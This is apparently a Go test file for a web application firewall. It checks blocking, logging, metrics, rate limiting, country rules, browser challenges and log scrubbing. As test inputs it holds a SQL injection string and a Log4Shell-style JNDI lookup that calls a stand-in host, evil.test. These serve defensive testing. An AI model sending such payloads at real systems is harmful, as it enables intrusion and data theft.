package firewall

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"gatehouse/internal/testkit"
)

// The lines of both logs about a request have the same identifier.
func TestFirewallLogGoesWithTheAccessLog(t *testing.T) {
	g := start(t, site, nil)
	g.get("/clean?id=1")
	g.get("/search?" + attack)
	access := g.logged("access.log", "of the attack", func(e entry) bool { return e["requestUri"] == "/search" })[0]
	if access["httpStatus"] != 403.0 || access["WAFMode"] != "Prevention" || access["WAFPolicyID"] != "shop" || access["WAFAction"] != "Blocked" {
		t.Errorf("access log: %v", access)
	}
	id := access["transactionId"]
	g.logged("waf.log", "with the outcome", func(e entry) bool { return e["transactionId"] == id && e["outcome"] == "blocked" })
	rules := 0
	for _, e := range g.entries("waf.log") {
		if e["transactionId"] != id || !strings.HasPrefix(e["requestUri"].(string), "/search?") || e["clientIp"] != "127.0.0.1" {
			t.Errorf("a line about something else: %v", e)
		}
		if rule, _ := e["ruleId"].(string); strings.HasPrefix(rule, "942") {
			rules++
		}
	}
	if rules == 0 {
		t.Error("no line names a rule about SQL")
	}
}

func TestMetricsCount(t *testing.T) {
	g := start(t, site, nil)
	for range 3 {
		g.get("/?" + attack)
	}
	for range 2 {
		g.get("/?id=1")
	}
	for name, want := range map[string]float64{
		`gatehouse_waf_messages_total{outcome="blocked",policy="shop"}`: 3,
		`gatehouse_waf_messages_total{outcome="allowed",policy="shop"}`: 2,
		`gatehouse_waf_engine_messages_total{policy="shop"}`:            3,
		`gatehouse_waf_errors_total{policy="shop"}`:                     0,
	} {
		g.wantMetric(name, want)
	}
	testkit.Eventually(t, soon, "matches and time to be counted", func() bool {
		return g.metric(`gatehouse_waf_rule_matches_total{group="sqli",policy="shop"}`) >= 3 && g.metric(`gatehouse_waf_evaluation_seconds_total{policy="shop"}`) > 0
	})
}

// wantMetric waits until a metric has a value: some are counted behind the response.
func (g *gateway) wantMetric(name string, want float64) {
	g.t.Helper()
	testkit.Eventually(g.t, soon, fmt.Sprintf("%s to be %v", name, want), func() bool { return g.metric(name) == want })
}

// metric is the value of a metric.
func (g *gateway) metric(name string) float64 {
	g.t.Helper()
	for line := range strings.SplitSeq(g.page("/metrics"), "\n") {
		if text, ok := strings.CutPrefix(line, name+" "); ok {
			value, err := strconv.ParseFloat(text, 64)
			if err != nil {
				g.t.Fatal(err)
			}
			return value
		}
	}
	g.t.Fatalf("no metric %s", name)
	return 0
}

func TestFirewallLogIsReopened(t *testing.T) {
	g := start(t, site, nil)
	g.get("/first?" + attack)
	g.logged("waf.log", "of the first", func(e entry) bool { return true })
	if err := os.Rename(filepath.Join(g.dir, "waf.log"), filepath.Join(g.dir, "waf.log.1")); err != nil {
		t.Fatal(err)
	}
	g.Signal(syscall.SIGUSR1)
	testkit.Eventually(t, soon, "a new file", func() bool {
		_, err := os.Stat(filepath.Join(g.dir, "waf.log"))
		return err == nil
	})
	g.get("/second?" + attack)
	g.logged("waf.log", "of the second", func(e entry) bool { return strings.HasPrefix(e["requestUri"].(string), "/second") })
	for file, other := range map[string]string{"waf.log": "/first", "waf.log.1": "/second"} {
		for _, e := range g.entries(file) {
			if strings.HasPrefix(e["requestUri"].(string), other) {
				t.Errorf("%s has %v", file, e)
			}
		}
	}
}

func TestBlockResponse(t *testing.T) {
	g := prepare(t, nil)
	g.write("blocked.html", "<p>not like this</p>\n")
	g.write("appgw.yaml", g.fill(site+"    blockResponse: {status: 418, bodyFile: blocked.html, contentType: text/x-shop}\n"))
	g.run()
	r := g.get("/?" + attack)
	if r.StatusCode != 418 || string(r.Content) != "<p>not like this</p>\n" || r.Get("Content-Type") != "text/x-shop" {
		t.Errorf("%s %q %q", r.Status, r.Get("Content-Type"), r.Content)
	}
	if r := g.ask(message("HEAD", "/?"+attack, "")); r.StatusCode != 418 || len(r.Content) > 0 {
		t.Errorf("HEAD: %s %q", r.Status, r.Content)
	}
	g.write("blocked.html", "<p>nor like that</p>\n") // the file is watched
	testkit.Eventually(t, soon, "the new page", func() bool { return string(g.get("/?"+attack).Content) == "<p>nor like that</p>\n" })
}

// A browser gets a page to solve, and a program is told why it gets none.
func TestChallenge(t *testing.T) {
	g := start(t, site+`    customRules:
      - {name: prove, priority: 1, match: [{variable: requestUri, operator: beginsWith, values: [/login]}], action: jsChallenge}
`, nil)
	r := g.get("/login")
	if !strings.HasPrefix(r.Get("Content-Type"), "text/html") || !strings.Contains(string(r.Content), "<script") || !strings.Contains(r.Get("Cache-Control"), "no-store") {
		t.Errorf("browser: %s %v %.300s", r.Status, r.Fields, r.Content)
	}
	r = g.ask("GET /login HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: curl/8.0\r\nAccept: application/json\r\n\r\n")
	if r.StatusCode != 403 || !strings.Contains(string(r.Content), "Open a page of this site in a browser first") {
		t.Errorf("program: %s %.300s", r.Status, r.Content)
	}
	r = g.ask(message("POST", "/login", "user=a", isForm))
	if r.StatusCode != 403 {
		t.Errorf("form: %s", r.Status)
	}
	if r = g.get("/login", "Cookie: appgw_azwaf_jsclearance=made.up"); r.StatusCode == 200 && strings.Contains(string(r.Content), "Target") {
		t.Errorf("a cookie that is made up: %s %.300s", r.Status, r.Content)
	}
	g.untouched()
	if r = g.get("/shop"); r.StatusCode != 200 {
		t.Errorf("elsewhere: %s", r.Status)
	}
	g.wantMetric(`gatehouse_waf_messages_total{outcome="challenged",policy="shop"}`, 4)
}

func TestRateLimit(t *testing.T) {
	g := start(t, `
trustedProxies: [127.0.0.1]
`+site+`    customRules:
      - name: login
        priority: 1
        type: rateLimit
        rate: {requests: 3, per: 1h, groupBy: clientAddr}
        match: [{variable: requestUri, operator: beginsWith, values: [/login]}]
        action: block
`, nil)
	for i := range 5 {
		r := g.get("/login", "X-Forwarded-For: 203.0.113.1")
		if want := map[bool]int{true: 200, false: 429}[i < 3]; r.StatusCode != want {
			t.Errorf("request %d: %s, want %d", i+1, r.Status, want)
		}
		if wait, err := strconv.Atoi(r.Get("Retry-After")); r.StatusCode == 429 && (err != nil || wait < 1 || wait > 7200) {
			t.Errorf("Retry-After: %q", r.Get("Retry-After"))
		}
	}
	if r := g.get("/login", "X-Forwarded-For: 203.0.113.2"); r.StatusCode != 200 {
		t.Errorf("another client: %s", r.Status)
	}
	if r := g.get("/shop", "X-Forwarded-For: 203.0.113.1"); r.StatusCode != 200 {
		t.Errorf("elsewhere: %s", r.Status)
	}
	g.configure(`
trustedProxies: [127.0.0.1]
` + site + `    blockResponse: {status: 418}
    customRules:
      - name: login
        priority: 1
        type: rateLimit
        rate: {requests: 3, per: 1h, groupBy: clientAddr}
        match: [{variable: requestUri, operator: beginsWith, values: [/login]}]
        action: block
`)
	if r := g.get("/login", "X-Forwarded-For: 203.0.113.1"); r.StatusCode != 429 {
		t.Errorf("after a reload: %s, want 429: counting goes on", r.Status)
	}
}

// countries is a policy that lets nobody in from Germany, by the built-in table.
const countries = site + `    customRules:
      - {name: abroad, priority: 1, match: [{variable: remoteAddr, operator: geoMatch, values: [DE]}], action: block}
`

func TestCountries(t *testing.T) {
	const german, french = "X-Forwarded-For: 53.0.0.1", "X-Forwarded-For: 2.0.0.1"
	t.Run("said by a trusted proxy", func(t *testing.T) {
		g := start(t, "trustedProxies: [127.0.0.1]\n"+countries, nil)
		if r := g.get("/", german); r.StatusCode != 403 {
			t.Errorf("from Germany: %s", r.Status)
		}
		if r := g.get("/", french); r.StatusCode != 200 {
			t.Errorf("from France: %s", r.Status)
		}
	})
	t.Run("said by anybody", func(t *testing.T) {
		g := start(t, countries, nil)
		if r := g.get("/", german); r.StatusCode != 200 {
			t.Errorf("%s: who says to be from Germany is believed", r.Status)
		}
	})
}

func TestLogScrubbing(t *testing.T) {
	g := start(t, site+`    logScrubbing:
      rules:
        - {variable: requestArgNames, operator: equals, selector: secret}
        - {variable: requestPostArgNames, operator: equals, selector: password}
        - {variable: requestJsonArgNames, operator: equals, selector: token}
        - {variable: requestCookieNames, operator: equals, selector: key}
        - {variable: requestHeaderNames, operator: equals, selector: X-Secret}
        - {variable: requestIPAddress}
`, nil)
	const hidden = "1' UNION SELECT hunter2 FROM users-- "
	const encoded = "1%27%20UNION%20SELECT%20hunter2%20FROM%20users--%20"
	object, _ := json.Marshal(map[string]string{"token": hidden})
	requests := []string{
		message("GET", "/query?secret="+encoded, ""),
		message("GET", "/query?%73ecret="+encoded, ""),
		message("POST", "/form", "password="+encoded, isForm),
		message("POST", "/json", string(object), "Content-Type: application/json"),
		message("GET", "/cookie", "", "Cookie: key="+encoded),
		message("GET", "/field", "", "X-Secret: ${jndi:ldap://evil.test/hunter2}"),
	}
	for i, r := range requests {
		if got := g.ask(r); got.StatusCode != 403 {
			t.Errorf("request %d: %s, want 403", i, got.Status)
		}
	}
	testkit.Eventually(t, soon, "all outcomes", func() bool {
		n := 0
		for _, e := range g.entries("waf.log") {
			if e["outcome"] == "blocked" {
				n++
			}
		}
		return n == len(requests)
	})
	for _, e := range g.entries("waf.log") {
		line, _ := json.Marshal(e)
		if strings.Contains(string(line), "hunter2") {
			t.Errorf("the log shows what it must not: %s", line)
		}
		if e["clientIp"] == "127.0.0.1" {
			t.Errorf("the log shows the client: %s", line)
		}
	}
}
